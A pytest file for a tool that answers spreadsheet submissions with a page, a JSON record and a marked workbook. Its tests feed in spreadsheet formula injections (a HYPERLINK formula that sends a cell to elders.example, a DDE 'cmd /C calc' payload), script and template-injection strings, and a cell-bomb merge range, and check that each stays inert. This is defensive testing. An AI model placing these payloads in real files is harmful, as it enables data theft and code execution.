"""The answer: a page, the same for machines, and a marked copy in which nothing acts."""

from __future__ import annotations

import json
import zipfile
from datetime import UTC, date, datetime
from typing import TYPE_CHECKING

import jsonschema
import pytest
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from sources.deliveries.answer import answer_document, read_answer, write_answer
from sources.deliveries.answer.index_sheet import COLOURS, INDEX
from sources.deliveries.answer.marking import ADVICE
from sources.deliveries.model import DeliveryRecord, EarlierFigure, Finding, JudgedRow, Judgement, ProjectFigure
from sources.deliveries.naming import delivery_id_of
from sources.workbooks.saving import AUTHOR
from tests.sources.deliveries.answers import schema
from tests.sources.deliveries.handing_in import files_below
from tests.sources.submissions.workbooks import DAY, GOOD, VISITED, catalogue, judge, workbook
from tests.sources.tabular import files

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

    from sources.deliveries.answer import AnswerFiles

MOMENT = datetime(2023, 11, 1, 9, 30, 15, 123456, tzinfo=UTC)
EVIL = '=HYPERLINK("http://elders.example/?"&A1)'
INJECTIONS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", " =1+1", "\uff1d1+1"]
"""The last with the wide sign of equality that some spreadsheets take for the narrow one."""


def record(name: str = "opgave.xlsx", target: str = "workbook") -> DeliveryRecord:
    return DeliveryRecord(
        delivery_id=delivery_id_of(target, "0" * 64),
        target=target,
        sha256="0" * 64,
        bytes=1,
        suffix="",
        name=name,
        channel="inbox",
        received_at=MOMENT,
    )


def answered(
    original: Path, judgement: Judgement | None = None, *, name: str = "opgave.xlsx", to: str = "answer", **how
):
    """The answer to a file, in a folder beside it."""
    return write_answer(
        record(name),
        judgement or judge(original),
        original,
        original.parent / to,
        catalogue=catalogue(),
        judged_at=MOMENT,
        **how,
    )


def bad_row(**changes: object) -> list[object]:
    headings = ("Kenmerk", "Indicator", "Eenheid", "Doel", "Waarde", "Zekerheid", "Peildatum", "Opmerking")
    cells = list(GOOD)
    for heading, value in changes.items():
        cells[headings.index(heading)] = value
    return cells


def read(files: AnswerFiles) -> tuple[str, dict]:
    document = json.loads(files.document.read_text(encoding="utf-8"))
    jsonschema.validate(document, schema(), format_checker=jsonschema.FormatChecker())
    return files.page.read_text(encoding="utf-8"), document


# -- what it says ---------------------------------------------------------------------------------------------------


def test_accepted(tmp_path: Path) -> None:
    page, document = read(answered(workbook(tmp_path / "a.xlsx", GOOD)))
    assert "Aangenomen.</strong> De ene regel in uw bestand is overgenomen." in page
    assert "Energiearmoede (wonen 2.1)" in page
    assert "U hoeft niets te doen." in page
    assert "310 huishoudens" in page
    assert "circa 250 op 31-03-2022" in page
    assert "1 november 2023 om 10.30 uur, via de gedeelde map" in page
    assert (document["verdict"], document["findings"], document["subject_id"]) == ("accepted", [], "wonen-2.1")
    (taken,) = document["taken_over"]
    assert (taken["kind"], taken["fact_id"], taken["as_of"], taken["value"]) == (
        "project",
        VISITED,
        "2023-09-30",
        310.0,
    )


def test_partly_accepted_names_every_cell_and_what_would_be_right(tmp_path: Path) -> None:
    other = ("energiecoaches-opgeleid", None, None, None, 14, None, DAY, None)
    original = workbook(tmp_path / "a.xlsx", bad_row(Waarde="veel", Peildatum="najaar"), other)
    page, document = read(answered(original))
    assert "Gedeeltelijk aangenomen.</strong> 1 van de 2 regels is overgenomen, 1 niet." in page
    first = "Blad Invullen, cel E4, kolom \u2018Nieuwe waarde\u2019"
    assert page.index(first) < page.index("Blad Invullen, cel G4")
    assert "Wat hersteld moet worden <span" in page
    assert [(f["file"], f["sheet"], f["cell"], f["rule"]) for f in document["findings"]] == [
        ("opgave.xlsx", "Invullen", "E4", "not_a_number"),
        ("opgave.xlsx", "Invullen", "G4", "not_a_date"),
    ]
    assert all(finding["expected"] and finding["value"] for finding in document["findings"])
    assert document["counts"] == {
        "rows": 2, "rows_accepted": 1, "rows_rejected": 1, "errors": 2, "warnings": 0, "notices": 0,
    }  # fmt: skip


def test_rejected_whole(tmp_path: Path) -> None:
    page, document = read(answered(workbook(tmp_path / "a.xlsx", GOOD, project="wonen-9.9")))
    assert "Niet aangenomen.</strong> De ene regel in uw bestand is niet overgenomen." in page
    assert "Het hele bestand" in page or "Blad _formulier" in page
    assert document["taken_over"] == []
    assert "Wat is overgenomen" not in page


def test_not_to_be_read_there_is_no_marked_copy(tmp_path: Path) -> None:
    result = answered(files.macro_workbook(tmp_path / "a.xlsx"))
    page, document = read(result)
    assert result.marked is None
    assert "gemarkeerd.xlsx" not in page
    assert sorted(files_below(tmp_path / "answer")) == ["antwoord.html", "antwoord.json"]
    assert [finding["rule"] for finding in document["findings"]] == ["macro_workbook"]


def test_what_is_before_a_value(tmp_path: Path) -> None:
    class Known:
        def figures(self, project_id: str, fact_id: str) -> tuple[EarlierFigure, ...]:
            return (EarlierFigure(as_of=DAY, value=305.5), EarlierFigure(as_of=date(2024, 1, 1), value=999))

    page, _ = read(answered(workbook(tmp_path / "a.xlsx", GOOD), earlier=Known()))
    assert "vervangt 305,5" in page
    assert "999" not in page


def test_the_same_is_answered_with_the_same_bytes(tmp_path: Path) -> None:
    original = workbook(tmp_path / "a.xlsx", GOOD, bad_row(Waarde="veel"))
    answered(original, to="one")
    answered(original, to="two")
    assert files_below(tmp_path / "one") == files_below(tmp_path / "two")


def test_a_newer_answer_takes_the_place_of_the_older(tmp_path: Path) -> None:
    original = workbook(tmp_path / "a.xlsx", bad_row(Waarde="veel"))
    answered(original)
    (tmp_path / "answer" / "van-een-ander.txt").write_text("blijft")
    answered(files.macro_workbook(tmp_path / "a.xlsx"))
    assert sorted(files_below(tmp_path / "answer")) == ["antwoord.html", "antwoord.json", "van-een-ander.txt"]
    assert [path.name for path in tmp_path.glob(".answer*")] == []
    assert read_answer(tmp_path / "answer").counts.rows == 0


# -- nothing in it acts ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_like_a_formula_stays_text(tmp_path: Path, text: str) -> None:
    original = workbook(tmp_path / "a.xlsx", bad_row(Opmerking=None, Waarde="veel"))
    book = load_workbook(original)
    cell = book["Invullen"]["H4"]
    cell.value, cell.data_type = text, "s"
    book.save(original)
    csv = files.text(tmp_path / "b.csv", [["Project", "Waarde", text], ["wonen-2.1", text, "x"]])
    for source, name in ((original, "one"), (csv, "two")):
        result = answered(source, to=name)
        with zipfile.ZipFile(result.marked) as parts:
            assert not any(b"<f>" in parts.read(part) or b"<f " in parts.read(part) for part in parts.namelist())
        found = [
            cell
            for sheet in load_workbook(result.marked).worksheets
            for cells in sheet.iter_rows()
            for cell in cells
            if isinstance(cell.value, str) and cell.value.strip() == text.strip()
        ]
        assert found
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)


def test_no_script_and_no_other_host(tmp_path: Path) -> None:
    nasty = "<script>alert(1)</script><img src=x onerror=alert(2)>{{ 7*7 }}\u202e"
    finding = Finding(
        rule="not_a_date", sheet=nasty[:25], cell="E4", row=4, column=nasty, value=nasty, message=nasty, expected=nasty
    )
    row = JudgedRow(place="1", row=4, cells={nasty: nasty}, findings=(finding,))
    judgement = Judgement(target="workbook", subject_id=nasty, catalogue_version="c", rows=(row,))
    result = answered(workbook(tmp_path / "a.xlsx", GOOD), judgement, name=nasty + ".xlsx")
    page, document = read(result)
    assert "<script" not in page
    assert "<img" not in page
    assert "{{ 7*7 }}" in page
    assert "\u202e" not in page
    assert "default-src 'none'" in page
    assert "http" not in page.replace("http-equiv", "").replace("http://www.w3.org", "")
    assert document["findings"][0]["value"] == nasty


def dressed_up(path: Path) -> Path:
    """A workbook with everything in it that points outside or says who made it, but nothing that is refused."""
    book = load_workbook(workbook(path, bad_row(Waarde="veel")))
    page = book["Invullen"]
    page["H4"].value = "klik hier"
    page["H4"].hyperlink = "http://elders.example/klik"
    page["E4"].comment = Comment("gezien door Piet Puk", "Piet Puk")
    page.oddHeader.center.text = "van Piet Puk"
    page.add_data_validation(DataValidation("custom", formula1='=INDIRECT("A"&ROW())>0', sqref="E4"))
    page.add_data_validation(DataValidation("list", formula1='"exact,ongeveer"', sqref="F4:F9"))
    book.defined_names["Buiten"] = DefinedName("Buiten", attr_text='INDIRECT("Invullen!A1")')
    book.defined_names["Binnen"] = DefinedName("Binnen", attr_text="Invullen!$A$1:$B$4")
    book.properties.creator = book.properties.lastModifiedBy = "Piet Puk"
    book.save(path)
    return path


def test_the_marked_copy_points_nowhere_and_names_nobody(tmp_path: Path) -> None:
    result = answered(dressed_up(tmp_path / "a.xlsx"))
    with zipfile.ZipFile(result.marked) as parts:
        content = {name: parts.read(name) for name in parts.namelist()}
    assert [name for name, part in content.items() if b"elders.example" in part or b"INDIRECT" in part] == []
    assert b"Puk" not in content["docProps/core.xml"]
    assert not any(b"van Piet Puk" in part for part in content.values())
    book = load_workbook(result.marked)
    assert list(book.defined_names) == ["Binnen"]
    assert [rule.formula1 for rule in book["Invullen"].data_validations.dataValidation] == ['"exact,ongeveer"']


# -- the marks ------------------------------------------------------------------------------------------------------


def test_bad_cells_are_coloured_and_say_why(tmp_path: Path) -> None:
    original = workbook(
        tmp_path / "a.xlsx", bad_row(Waarde="veel", Opmerking="=1+1 erbij"), bad_row(Peildatum="najaar")
    )
    before = original.read_bytes()
    judgement = judge(original)
    book = load_workbook(answered(original, judgement).marked)
    assert original.read_bytes() == before
    index, page = book.worksheets[0], book["Invullen"]
    assert (index.title, book.active.title) == (INDEX, INDEX)
    marked = {cell.coordinate: cell for cells in page.iter_rows() for cell in cells if cell.comment}
    by_cell = {finding.cell: finding for finding in judgement.all_findings}
    assert set(marked) == set(by_cell)
    for name, cell in marked.items():
        finding = by_cell[name]
        assert cell.fill.fgColor.rgb == COLOURS[finding.severity]
        assert finding.message in cell.comment.text
        assert f"{ADVICE[finding.severity]}: {finding.expected}" in cell.comment.text
        assert cell.comment.author == AUTHOR
    rows = list(index.iter_rows(min_row=7, max_row=6 + len(marked), max_col=7))
    assert [row[0].value for row in rows] == list(range(1, len(marked) + 1))
    assert {row[1].hyperlink.location for row in rows} == {f"'Invullen'!{name}" for name in marked}
    assert page["E4"].value == "veel"
    assert page["A4"].value == VISITED


def test_a_marked_copy_that_is_handed_in_is_judged_and_marked_afresh(tmp_path: Path) -> None:
    first = answered(workbook(tmp_path / "a.xlsx", bad_row(Waarde="veel"), bad_row(Peildatum="najaar")), to="one")
    corrected = tmp_path / "b.xlsx"
    book = load_workbook(first.marked)
    book["Invullen"]["E4"].value = 311
    book.save(corrected)
    judgement = judge(corrected)
    assert [(f.rule, f.cell) for f in judgement.all_findings if f.severity == "error"] == [("not_a_date", "G5")]
    again = load_workbook(answered(corrected, judgement, to="two").marked)
    assert [sheet.title for sheet in again.worksheets if sheet.title.startswith(INDEX)] == [INDEX]
    page = again["Invullen"]
    assert page["E4"].comment is None
    assert page["E4"].fill.fgColor.rgb not in COLOURS.values()
    assert page["G5"].fill.fgColor.rgb == COLOURS["error"]
    assert page["G5"].comment.text.count("najaar") == 1


@pytest.mark.parametrize("suffix", ["csv", "ods", "xls"])
def test_of_any_other_file_a_workbook_is_made_with_its_cells_in_place(tmp_path: Path, suffix: str) -> None:
    if suffix == "csv":
        original = files.text(tmp_path / "a.csv", [["Project", "Waarde"], ["wonen-2.1", "veel"]], encoding="cp1252")
        sheet, place = None, "B2"
    else:
        original, sheet, place = files.FIXTURES / f"book.{suffix}", "Invullen", "B2"
    finding = Finding(rule="not_a_number", sheet=sheet, cell=place, row=2, message="Geen getal.", expected="Een getal.")
    row = JudgedRow(place="2", row=2, sheet=sheet, cells={"Waarde": "veel"}, findings=(finding,))
    judgement = Judgement(target="workbook", subject_id=None, catalogue_version="c", rows=(row,))
    result = write_answer(
        record(original.name), judgement, original, tmp_path / "answer", catalogue=catalogue(), judged_at=MOMENT
    )
    page = load_workbook(result.marked).worksheets[1]
    assert page["A2"].value == "wonen-2.1"
    assert page["B2"].fill.fgColor.rgb == COLOURS["error"]
    assert page["B2"].comment is not None


def test_of_a_large_file_only_the_rows_are_given_in_which_something_was_found(tmp_path: Path) -> None:
    original = tmp_path / "groot.csv"
    original.write_text("Regio;Waarde;Opmerking\r\n" + f"Emmen;1;{'x' * 600}\r\n" * 4_000, encoding="utf-8")
    finding = Finding(rule="x", cell="B3210", row=3210, column="Waarde", value="1", message="Fout.", expected="Goed.")
    rows = tuple(
        JudgedRow(
            place=str(number),
            row=number,
            cells={"Regio": "Emmen", "Waarde": "=1"},
            findings=(finding,) if number == 3210 else (),
        )
        for number in range(2, 4_002)
    )
    judgement = Judgement(target="energiecoaches", subject_id="energiecoaches", catalogue_version="c", rows=rows)
    result = answered(original, judgement)
    index, page = load_workbook(result.marked).worksheets
    assert [[cell.value for cell in cells] for cells in page.iter_rows()] == [
        ["Regel", "Regio", "Waarde"],
        [3210, "Emmen", "=1"],
    ]
    assert page["C2"].comment is not None
    assert page["C2"].data_type == "s"
    assert index["B7"].hyperlink.location.endswith("!C2")


def test_a_few_bytes_cannot_ask_for_billions_of_cells(tmp_path: Path) -> None:
    original = workbook(tmp_path / "a.xlsx", bad_row(Waarde="veel"))
    files.changed(
        original,
        lambda parts: parts.update(
            {
                "xl/worksheets/sheet1.xml": parts["xl/worksheets/sheet1.xml"].replace(
                    b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="J10:XFD1048576"/></mergeCells>'
                )
            }
        ),
    )
    result = answered(original)
    assert result.marked is not None
    assert load_workbook(result.marked).worksheets[1]["E4"].value == "veel"


def test_where_marking_fails_the_answer_goes_without(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """A library that breaks is no reason to leave a sender without an answer."""
    original = workbook(tmp_path / "a.xlsx", bad_row(Waarde="veel"))
    judgement = judge(original)
    original.unlink()
    result = answered(original, judgement)
    assert result.marked is None
    assert "without a marked copy" in caplog.text
    assert read(result)[1]["verdict"] == "rejected"


# -- on a screen ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [390, 1280])
def test_the_page_fits_a_screen_and_asks_nothing_of_any_host(tmp_path: Path, opened: Browser, width: int) -> None:
    long = "x" * 300
    other = ("energiecoaches-opgeleid", None, None, None, 14, None, DAY, None)
    result = answered(workbook(tmp_path / "a.xlsx", bad_row(Waarde=long), bad_row(Peildatum="najaar"), other))
    page = opened.new_page(viewport={"width": width, "height": 900})
    asked, errors = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: errors.append(message.text))
    page.goto(result.page.as_uri())
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.get_by_role("row").count() == 2
    assert page.get_by_role("cell", name="14 vrijwilligers").is_visible()
    assert asked == [result.page.as_uri()]
    assert errors == []
    page.close()


def test_the_document_is_the_judgement(tmp_path: Path) -> None:
    figure = ProjectFigure(project_id="wonen-2.1", fact_id=VISITED, as_of=DAY, value=1.5, unit="huishoudens")
    row = JudgedRow(place="2", row=2, cells={}, project_figures=(figure,))
    judgement = Judgement(target="workbook", subject_id="wonen-2.1", catalogue_version="c", rows=(row,))
    document = answer_document(record(), judgement, MOMENT)
    assert [taken.value for taken in document.taken_over] == [1.5]
    assert document == type(document).model_validate_json(document.model_dump_json())
